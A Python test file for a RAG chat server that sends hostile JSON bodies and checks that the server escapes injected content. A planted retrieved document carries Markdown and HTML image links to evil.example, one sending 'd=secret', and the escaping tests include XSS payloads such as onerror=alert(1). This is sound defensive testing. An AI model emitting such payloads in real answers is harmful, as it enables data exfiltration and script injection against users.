"""Attacks on ``arag serve`` that need no real uvicorn limits: hostile bodies, runs and streams
that fail midway, text that cannot be encoded, injected Markdown in retrieved documents,
blank keys and open hosts, and the embedding cache's open files. Each checks an objective
signal: the status, the exact shape of the error object, no exception text in it, and no
traceback in the server's log."""

from __future__ import annotations

import json
import logging
import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest
from pydantic import ValidationError

import agents.serve.runs as server_module
import agents.serve.wire as wire_module
from agents.cli import main as cli_main
from agents.events import AgentResult
from agents.rag_agent import RagAgent
from agents.serve import ServerAgents, check_exposure, create_app
from agents.serve.chat import neutralise_markdown
from agents.settings import Settings
from agents.testing import FakeEmbeddings
from tests.serving import offline_agents, running
from tools.embeddings import CachedEmbeddings
from tools.ingest import Ingestor
from tools.ingest.loaders import Document
from tools.retrieval import Retriever
from tools.store import QdrantStore

EIFFEL = "How tall is the Eiffel Tower?"
HEADERS = {"content-type": "application/json"}
ERROR_KEYS = {"message", "type", "param", "code"}
HI = json.dumps([{"role": "user", "content": "hi"}]).encode()


def _user(text: str) -> list[Any]:
    return [{"role": "user", "content": text}]


def _error(response: httpx.Response) -> dict[str, Any]:
    body = response.json()
    assert set(body) == {"error"}
    assert set(body["error"]) == ERROR_KEYS
    return body["error"]  # type: ignore[no-any-return]


def _events(text: str) -> list[Any]:
    lines = [line.removeprefix("data: ") for line in text.splitlines() if line.startswith("data: ")]
    assert lines[-1] == "[DONE]"
    return [json.loads(line) for line in lines[:-1]]


def _no_traceback(caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]) -> str:
    """Everything the server logged (records and stderr), checked free of tracebacks."""
    out, err = capfd.readouterr()
    text = caplog.text + out + err
    assert "Traceback" not in text
    assert "Exception in ASGI application" not in text
    return text


@pytest.fixture
def server(caplog: pytest.LogCaptureFixture) -> Iterator[str]:
    caplog.set_level(logging.INFO, logger="arag.server")
    agents = offline_agents(QdrantStore(":memory:"), FakeEmbeddings())
    with running(create_app(Settings(), agents=agents)) as url:
        yield url


# -- hostile bodies -------------------------------------------------------------------------------

HOSTILE = {
    "nested arrays x100k": (b'{"model": "rag", "messages": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "too deeply"),
    "nested objects x5k": (
        b'{"model": "rag", "x": ' + b'{"a": ' * 5_000 + b"1" + b"}" * 5_000 + b', "messages": ' + HI + b"}",
        "too deeply",
    ),
    "nested x100 (parses)": (b'{"model": "rag", "x": ' + b"[" * 100 + b"]" * 100 + b', "messages": ' + HI + b"}", "64"),
    "5000-digit integer": (b'{"model": "rag", "max_tokens": ' + b"9" * 5_000 + b', "messages": ' + HI + b"}", "5000"),
    "5000-digit content": (
        b'{"model": "rag", "messages": [{"role": "user", "content": ' + b"9" * 5_000 + b"}]}",
        "5000",
    ),
    "NaN": (b'{"model": "rag", "temperature": NaN, "messages": ' + HI + b"}", "NaN"),
    "lone surrogate": (b'{"model": "rag", "messages": [{"role": "user", "content": "a \\ud800 b"}]}', "surrogate"),
    "lone surrogate, streamed": (
        b'{"model": "rag", "stream": true, "messages": [{"role": "user", "content": "tower \\udfff"}]}',
        "surrogate",
    ),
    "lone surrogate in a key": (b'{"model": "rag", "\\udc00": 1, "messages": ' + HI + b"}", "surrogate"),
    "surrogate as UTF-8 bytes": (
        b'{"model": "rag", "messages": [{"role": "user", "content": "\xed\xa0\x80"}]}',
        "UTF-8",
    ),
    "UTF-16 body": ('{"model": "rag", "messages": []}'.encode("utf-16"), "UTF-8"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_bodies_are_400_error_objects_without_tracebacks(
    server: str, name: str, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    body, needle = HOSTILE[name]
    response = httpx.post(server + "/v1/chat/completions", content=body, headers=HEADERS, timeout=30)
    assert response.status_code == 400
    error = _error(response)
    assert needle in error["message"]
    for leaked in ("RecursionError", "Exceeds the limit", "codec can't", "Traceback"):
        assert leaked not in error["message"]
    log = _no_traceback(caplog, capfd)
    assert "refused (invalid_body)" in log  # counted and logged with its reason
    assert httpx.get(server + "/health").json()["refused"]["invalid_body"] == 1


def test_valid_unicode_and_ordinary_nesting_are_answered(server: str) -> None:
    parts = [
        {"type": "text", "text": "How tall is the Eiffel Tower? \U0001f600"},
        {"type": "image_url", "image_url": {}},
    ]
    body = {"model": "rag", "messages": [{"role": "user", "content": parts}], "tools": [{"a": {"b": {"c": [1]}}}]}
    raw = json.dumps(body).encode()  # ensure_ascii: the emoji travels as the pair \ud83d\ude00
    assert b"\\ud83d\\ude00" in raw
    response = httpx.post(server + "/v1/chat/completions", content=raw, headers=HEADERS)
    assert response.status_code == 200
    assert "330 metres" in response.json()["choices"][0]["message"]["content"]


# -- runs and streams that fail midway ------------------------------------------------------------


def test_a_run_that_fails_midway_is_an_error_event_then_done_and_one_log_line(
    server: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    real = server_module._run_items

    def failing(*args: Any) -> Iterator[dict[str, Any]]:
        for event in real(*args):
            if event["type"] == "final":
                msg = "disk /srv/secret/embeddings.bin is gone"
                raise OSError(msg)
            yield event

    monkeypatch.setattr(server_module, "_run_items", failing)
    body = {"model": "rag", "messages": _user(EIFFEL), "stream": True}
    streamed = httpx.post(server + "/v1/chat/completions", json=body)
    plain = httpx.post(server + "/v1/chat/completions", json={**body, "stream": False})
    events = _events(streamed.text)
    assert any((e.get("arag") or {}).get("step") for e in events)  # it had started: steps came first
    error = events[-1]["error"]
    assert set(error) == ERROR_KEYS
    assert error["code"] == "run_failed"
    assert plain.status_code == 500
    assert _error(plain)["code"] == "run_failed"
    for message in (error["message"], _error(plain)["message"]):
        assert "secret" not in message
        assert "OSError" not in message
        assert "error id" in message
    log = _no_traceback(caplog, capfd)
    error_id = error["message"].split("error id ")[1].split(";")[0]
    assert f"agent run failed (error id {error_id}): OSError: disk /srv/secret/embeddings.bin is gone" in log


def test_unencodable_answers_are_cleaned_and_the_stream_still_ends(
    server: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    """A lone surrogate from a model or a store cannot stop a response halfway."""

    def events(*args: Any) -> Iterator[dict[str, Any]]:
        yield {"type": "status", "text": "retrieve: \ud800", "data": {"event": "step_end", "node": "x\udfff"}}
        yield server_module._final(
            AgentResult(question="q", answer="bad \ud800 text", exit_reason="answered", usage={})
        )

    monkeypatch.setattr(server_module, "_run_items", events)
    body = {"model": "rag", "messages": _user(EIFFEL), "stream": True}
    streamed = httpx.post(server + "/v1/chat/completions", json=body)
    answer = "".join(e["choices"][0]["delta"].get("content") or "" for e in _events(streamed.text))
    assert answer == "bad \ufffd text"
    plain = httpx.post(server + "/v1/chat/completions", json={**body, "stream": False})
    assert plain.json()["choices"][0]["message"]["content"] == "bad \ufffd text"
    _no_traceback(caplog, capfd)


def test_a_stream_that_breaks_in_the_server_ends_with_an_error_event_and_done(
    server: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    def broken(*args: Any, **kwargs: Any) -> str:
        msg = "citation table /srv/x corrupt"
        raise KeyError(msg)

    monkeypatch.setattr(wire_module, "citation_payload", broken)
    body = {"model": "rag", "messages": _user(EIFFEL), "stream": True}
    events = _events(httpx.post(server + "/v1/chat/completions", json=body).text)
    error = events[-1]["error"]
    assert error["code"] == "internal_error"
    assert "/srv/x" not in error["message"]
    plain = httpx.post(server + "/v1/chat/completions", json={**body, "stream": False})
    assert plain.status_code == 500
    assert _error(plain)["code"] == "internal_error"
    assert "/srv/x" not in _error(plain)["message"]
    log = _no_traceback(caplog, capfd)
    assert "streamed chat failed (error id" in log
    assert "POST /v1/chat/completions failed (error id" in log


def test_a_client_that_leaves_an_upload_is_one_log_line(
    caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    """In-process twin of the subprocess test: Starlette's ClientDisconnect is not a traceback."""
    import socket

    caplog.set_level(logging.INFO, logger="arag.server")
    agents = offline_agents(QdrantStore(":memory:"), FakeEmbeddings())
    with running(create_app(Settings(), agents=agents)) as url:
        host, port = url.removeprefix("http://").split(":")
        for _ in range(5):
            with socket.create_connection((host, int(port))) as sock:
                sock.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-length: 9000\r\n\r\n{")
        deadline = 50
        while httpx.get(url + "/health").json()["refused"].get("client_disconnected", 0) < 5 and deadline:
            threading.Event().wait(0.1)
            deadline -= 1
        assert httpx.get(url + "/health").json()["refused"]["client_disconnected"] == 5
    log = _no_traceback(caplog, capfd)
    assert log.count("refused (client_disconnected)") == 5


# -- injected Markdown in answers -----------------------------------------------------------------

POISONED = (
    "The Eiffel Tower is 330 metres tall ![chart](https://evil.example/c.png?d=secret) "
    '<img src="https://evil.example/p.gif"> and opened in 1889.'
)


def _poisoned_app(settings: Settings) -> Any:
    store, embeddings = QdrantStore(":memory:"), FakeEmbeddings()
    doc = Document(doc_id="eiffel", text=POISONED, title="Eiffel <img src=https://evil.example/t.gif>", path="/e.txt")
    Ingestor(store, embeddings).ingest_documents([doc], "landmarks", description="landmarks")
    rag = RagAgent(Retriever(store=store, embeddings=embeddings, k=5))
    return create_app(settings, agents=ServerAgents(rag=rag))


@pytest.mark.parametrize("stream", [False, True])
def test_images_and_html_from_documents_do_not_reach_front_ends(stream: bool) -> None:
    with running(_poisoned_app(Settings())) as url:
        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0)
        if stream:
            chunks = list(client.chat.completions.create(model="rag", messages=_user(EIFFEL), stream=True))
            content = "".join(c.choices[0].delta.content or "" for c in chunks)
            citations = (chunks[-1].model_extra or {})["citations"]
        else:
            reply = client.chat.completions.create(model="rag", messages=_user(EIFFEL))
            content = reply.choices[0].message.content or ""
            citations = (reply.model_extra or {})["citations"]
    assert "330 metres tall" in content
    assert "[1]" in content  # the citation mark and the references stay
    assert "**Sources**\n- [1] Eiffel" in content
    assert "![" not in content  # no image syntax: nothing is fetched
    assert "!\\[chart](https://evil.example/c.png?d=secret)" in content  # shown as the text it was
    assert "<img" not in content
    assert '&lt;img src="https://evil.example/p.gif">' in content
    assert citations[0]["text"] == POISONED  # the structured passage is as stored (render it as text)


def test_neutralising_can_be_turned_off() -> None:
    with running(_poisoned_app(Settings(server={"safe_markdown": False}))) as url:
        reply = httpx.post(url + "/v1/chat/completions", json={"model": "rag", "messages": _user(EIFFEL)}).json()
    content = reply["choices"][0]["message"]["content"]
    assert "![chart](https://evil.example/c.png?d=secret)" in content
    assert "<img src=https://evil.example/t.gif>" in content


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Tall [1] and **old** [2].", "Tall [1] and **old** [2]."),
        ("![x](https://e.example/a.png)", "!\\[x](https://e.example/a.png)"),
        ("![x][ref]\n\n[ref]: https://e.example/a.png", "!\\[x][ref]\n\n[ref]: https://e.example/a.png"),
        ("![ref]", "!\\[ref]"),
        ("![a [b] c](https://e.example/a.png)", "!\\[a [b] c](https://e.example/a.png)"),
        ("[![x](https://e.example/i.png)](https://e.example)", "[!\\[x](https://e.example/i.png)](https://e.example)"),
        ("\\![not an image](u)", "\\![not an image](u)"),
        ("\\\\![x](u)", "\\\\!\\[x](u)"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ("<IMG SRC=x>", "&lt;IMG SRC=x>"),
        ("a</p><script>x</script>", "a&lt;/p>&lt;script>x&lt;/script>"),
        ("<!-- hidden -->", "&lt;!-- hidden -->"),
        ("<svg:svg/onload=alert(1)>", "&lt;svg:svg/onload=alert(1)>"),
        ("1 < 2 and 3 <= 4", "1 < 2 and 3 <= 4"),
        ("see <https://example.org/a> or <mailto:a@b.org>", "see <https://example.org/a> or <mailto:a@b.org>"),
        ("[link](https://example.org) and `code`", "[link](https://example.org) and `code`"),
        ("```html\n<img src=x>\n![a](b)\n```\nafter <b>", "```html\n<img src=x>\n![a](b)\n```\nafter &lt;b>"),
        ("```\n<img src=x>", "```\n&lt;img src=x>"),  # unclosed fence: front ends differ, so neutralised
        ("``` a`b\n<img src=x>\n```", "``` a`b\n&lt;img src=x>\n```"),  # not a fence in CommonMark
        ('`<img src=x alt="`">`', '`&lt;img src=x alt="`">`'),  # an HTML tag wins over code
        ("let v = vec![1, 2];", "let v = vec!\\[1, 2];"),
    ],
)
def test_neutralise_markdown(text: str, expected: str) -> None:
    assert neutralise_markdown(text) == expected


# -- keys and hosts -------------------------------------------------------------------------------


@pytest.mark.parametrize("key", ["", "   ", " padded "])
def test_a_blank_or_padded_api_key_is_an_error_not_auth_off(key: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ValidationError, match="ARAG_API_KEY"):
        Settings(server={"api_key": key})
    monkeypatch.setenv("ARAG_API_KEY", key)
    with pytest.raises(ValidationError, match="ARAG_API_KEY"):
        Settings()


@pytest.mark.parametrize(
    ("host", "key", "no_auth", "refused"),
    [
        ("127.0.0.1", None, False, None),
        ("localhost", None, False, None),
        ("::1", None, False, None),
        ("127.0.0.2", None, False, None),
        ("0.0.0.0", None, False, "without an API key"),
        ("::", None, False, "without an API key"),
        ("", None, False, "without an API key"),
        ("192.168.1.5", None, False, "without an API key"),
        ("my-host.lan", None, False, "without an API key"),
        ("0.0.0.0", "k", False, None),
        ("0.0.0.0", None, True, None),
        ("127.0.0.1", "k", True, "both set"),
    ],
)
def test_open_hosts_need_a_key_or_an_explicit_no_auth(
    host: str, key: str | None, no_auth: bool, refused: str | None
) -> None:
    settings = Settings(server={"host": host, "api_key": key, "no_auth": no_auth})
    if refused is None:
        check_exposure(settings)
    else:
        with pytest.raises(ValueError, match=refused):
            check_exposure(settings)


def test_arag_serve_refuses_an_open_host_before_loading_anything(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli_main(["serve", "--host", "0.0.0.0", "--port", "1"]) == 1
    err = capsys.readouterr().err
    assert "without an API key" in err
    assert "--no-auth" in err
    assert cli_main(["serve", "--api-key", ""]) == 1
    assert "blank" in capsys.readouterr().err
    assert cli_main(["serve", "--no-auth", "--api-key", "k"]) == 1
    assert "both set" in capsys.readouterr().err


# -- the embedding cache's open files -------------------------------------------------------------


def _open_files() -> int:
    return len(os.listdir("/proc/self/fd"))


def test_the_embedding_cache_keeps_a_few_connections_whatever_the_threads(tmp_path: Path) -> None:
    cache = CachedEmbeddings(FakeEmbeddings(), tmp_path / "cache.sqlite", max_connections=2)
    cache.embed_query("warm up")
    before = _open_files()
    for round_no in range(10):  # LangGraph runs each step in fresh threads: 200 short-lived ones
        threads = [
            threading.Thread(target=cache.embed_documents, args=([f"text {round_no} {i}", "shared"],))
            for i in range(20)
        ]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    assert _open_files() - before <= 3 * 2  # at most two WAL connections, three files each
    cache.close()
    assert _open_files() < before  # closed, not left to the garbage collector
    assert cache.embed_query("shared") == FakeEmbeddings().embed_query("shared")  # reopens on use
    cache.close()


def test_server_agents_close_the_embedding_cache(tmp_path: Path) -> None:
    settings = Settings(store={"data_dir": tmp_path / "data", "backend": "local"})
    agents = ServerAgents.from_settings(settings)
    cache = agents.rag.retriever.embeddings if agents.rag else None
    assert isinstance(cache, CachedEmbeddings)
    assert cache in agents.owned
    agents.close()
